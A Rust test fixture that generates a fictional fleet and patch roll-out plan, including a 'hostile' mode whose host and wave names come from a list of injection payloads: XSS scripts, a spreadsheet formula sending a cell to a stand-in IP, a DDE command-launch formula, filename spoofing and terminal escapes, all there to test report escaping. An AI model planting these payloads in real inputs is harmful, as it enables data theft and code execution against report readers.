//! A made-up fleet and the plan to patch it.

use fleetwright_flow::{
    ApprovalRule, Gate, OnExpiry, OnFailure, Place, PlaceId, RecipeId, Stage, StageId, Target,
};
use fleetwright_model::{AccountId, GapSubject, InstanceId, Region, ZoneName, code};
use fleetwright_patch::plan::roll_out::ZoneByZone;
use fleetwright_patch::plan::{LeftOut, PatchPlan, PlanDocument, PlannedGap, PlannedWave, Work};

/// How a made-up run went.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Manner {
    /// Most hosts well, a few of every other outcome.
    Mixed,
    /// Every host well.
    Well,
    /// Halted by failures in its second wave.
    Failed,
    /// In its last wave.
    UnderWay,
    /// As mixed, with names that try to be something else.
    Hostile,
}

const REGIONS: [&str; 3] = ["eu-central-1", "eu-west-1", "us-east-1"];
const TEAMS: [&str; 8] = ["payments", "retail", "search", "risk", "data", "mobile", "shared", "edge"];
const APPLICATIONS: [&str; 11] = [
    "checkout",
    "ledger",
    "catalogue",
    "identity",
    "billing",
    "warehouse",
    "reports",
    "gateway",
    "mailer",
    "pricing",
    "fraud",
];
pub(crate) const PLATFORMS: [&str; 5] = ["amazon-linux-2023", "amazon-linux-2", "ubuntu", "rhel", "windows"];

/// Names that people could give their hosts to be something else in a report.
pub(crate) const HOSTILE: [&str; 12] = [
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "\"><img src=x onerror=window.pwned=1>",
    "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"invoice\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "]]><!--<b>",
    "a\u{202e}gnp.exe",
    "\u{0}\u{1b}[2Jgone\r\nnew,line",
    "javascript:window.pwned=1",
    "__proto__",
    "constructor",
    "'\"`${window.pwned=1}{{7*7}}",
];

/// The shares of the waves, in percent.
const WAVES: [(&str, u32); 4] = [("canary", 1), ("early", 9), ("main", 40), ("rest", 50)];

/// The name of a host.
pub(crate) fn name(host: u32, manner: Manner) -> String {
    let at = host as usize;
    match manner {
        Manner::Hostile if host < 12 => HOSTILE[at].to_owned(),
        Manner::Hostile if host == 12 => "long ".repeat(2_000),
        Manner::Hostile => format!("{}{host}", HOSTILE[at % HOSTILE.len()]),
        _ => format!("{}-{:04}", APPLICATIONS[at % APPLICATIONS.len()], host / 11),
    }
}

/// The first host of each wave and the one after the last of all.
pub(crate) fn cuts(hosts: u32) -> [u32; 5] {
    let mut cuts = [0; 5];
    for (place, (_, percent)) in WAVES.iter().enumerate() {
        let share = (u64::from(hosts) * u64::from(*percent)).div_ceil(100);
        cuts[place + 1] = hosts.min(cuts[place] + u32::try_from(share).unwrap_or(hosts));
    }
    cuts[4] = hosts;
    cuts
}

/// The plan: the tests' plan of two hosts, grown.
pub(crate) fn plan(hosts: u32, manner: Manner) -> PatchPlan {
    let bytes = include_bytes!("../../../patch/testdata/formats/1.0/plan.json");
    let mut plan = PlanDocument::read(bytes).expect("the tests' plan").into_plan();
    let Some(Work::Host(model)) = plan.work.first().cloned() else { panic!("the first is a host") };

    let zones = (hosts / 700).clamp(1, 60);
    plan.flow.places = (0..zones)
        .flat_map(|zone| {
            let team = TEAMS[zone as usize % TEAMS.len()];
            let account = format!("{:012}", 111_122_223_333 + u64::from(zone) * 7_919);
            REGIONS.map(|region| Place {
                zone: format!("{team}-{}", zone / 8 + 1).parse::<ZoneName>().expect("a name"),
                account: account.parse::<AccountId>().expect("twelve digits"),
                region: region.parse::<Region>().expect("a region"),
            })
        })
        .collect();
    plan.flow.groups[0].capacity = hosts.max(1);
    // Nothing waits in these tales, and what validation finds worse is put back.
    for step in plan.flow.recipes.iter_mut().flat_map(|recipe| &mut recipe.steps) {
        step.max_in_flight = None;
        if &*step.name == "validate" {
            step.on_failure = OnFailure::Undo;
        }
    }
    (plan.flow.targets, plan.work) = (0..hosts)
        .map(|host| {
            let mut planned = model.clone();
            let at = host as usize;
            let id = format!("i-{:017x}", u128::from(host) * 0x9e37_79b9_7f4a + 0x0a00_0000_0000_0000);
            planned.id = id.parse::<InstanceId>().expect("an id");
            planned.name = Some(name(host, manner).as_str().into());
            planned.platform = PLATFORMS[at * 7 % 5].into();
            planned.application = match manner {
                Manner::Hostile => Some(HOSTILE[at % HOSTILE.len()].into()),
                _ => (!at.is_multiple_of(13)).then(|| APPLICATIONS[at % 11].into()),
            };
            planned.environment = Some(["prod", "prod", "staging"][at % 3].into());
            planned.missing = Some(4 + host % 9);
            let place = PlaceId(u16::try_from(at % plan.flow.places.len()).expect("few places"));
            let mut target = Target::new(id.as_str(), place, RecipeId(0));
            target.groups = plan.flow.targets[0].groups.clone();
            (target, Work::Host(planned))
        })
        .unzip();

    let cuts = cuts(hosts);
    let wave_name = |place: usize| match manner {
        Manner::Hostile => format!("{} {}", WAVES[place].0, HOSTILE[place]),
        _ => WAVES[place].0.to_owned(),
    };
    plan.flow.stages = (0..WAVES.len())
        .map(|place| {
            let mut stage = Stage::new(wave_name(place).as_str(), cuts[place]..cuts[place + 1]);
            stage.gate = Gate::Approval;
            let expires_seconds = Some(4 * 3_600);
            stage.approval = Some(ApprovalRule {
                needed: if place == 0 { 1 } else { 2 },
                approvers: Vec::new(),
                expires_seconds,
                on_expiry: OnExpiry::Skip,
            });
            stage
        })
        .collect();
    plan.roll_out.waves = (0..WAVES.len())
        .map(|place| PlannedWave {
            name: wave_name(place).as_str().into(),
            stages: vec![StageId(u16::try_from(place).expect("four"))],
            canary: place == 0,
            zone_by_zone: ZoneByZone::default(),
            zones_at_once: 1,
            bake_seconds: 1_800,
            min_verified: 0,
            max_failures: hosts / 10,
        })
        .collect();
    let words = |text: &str| match manner {
        Manner::Hostile => format!("{text} {}", HOSTILE[0]),
        _ => text.to_owned(),
    };
    if matches!(manner, Manner::Mixed | Manner::Hostile) && hosts > 0 {
        plan.gaps = vec![PlannedGap {
            zone: Some("data-1".parse().expect("a name")),
            region: Some("us-east-1".parse().expect("a region")),
            subject: GapSubject::Instances,
            code: code::DENIED.id.into(),
            message: words("not authorized to perform: ec2:DescribeInstances").into(),
        }];
        plan.left_out = (0..hosts / 100 + 1)
            .map(|host| LeftOut {
                id: format!("i-{:017x}", u128::from(host) + 0x0b00_0000_0000_0000).parse().expect("an id"),
                name: Some(words("legacy").into()),
                zone: "shared-1".parse().expect("a name"),
                region: "eu-west-1".parse().expect("a region"),
                reasons: vec![code::NO_AGENT.id.into()],
                detail: None,
                groups: Vec::new(),
            })
            .collect();
    }
    plan
}
